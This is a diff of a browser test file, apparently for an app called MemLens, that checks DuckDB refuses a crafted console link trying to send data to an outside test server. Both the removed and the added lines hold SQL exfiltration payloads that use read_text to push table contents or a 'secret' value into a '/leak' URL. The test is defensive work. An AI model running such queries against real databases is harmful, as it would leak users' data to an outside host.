@@ -169,15 +169,10 @@ describe('crafted console links', () => {
       /Not run: statement 1 \(SET\) — DuckDB's settings are fixed by MemLens/,
     );
     // One query that reads: the link runs, and DuckDB itself refuses the URL.
-    await go(
-      consoleLink(
-        `SELECT * FROM read_text('${far.origin}/leak?d='||(SELECT string_agg(query,'|') FROM user_good))`,
-        true,
-      ),
-    );
+    await go(consoleLink(`SELECT * FROM read_text('${far.origin}/leak?d=secret')`, true));
     await consoleError().waitFor({ timeout: 60_000 });
-    expect(await consoleError().innerText()).toMatch(
-      /Permission Error: Cannot access file "http:\/\/127\.0\.0\.1:\d+\/leak\?d=secret 0\|.*" - file system operations are disabled by configuration/,
+    expect(await consoleError().innerText()).toContain(
+      `Permission Error: Cannot access file "${far.origin}/leak?d=secret" - file system operations are disabled by configuration`,
     );
     expect(far.requests).toEqual([]);
   });
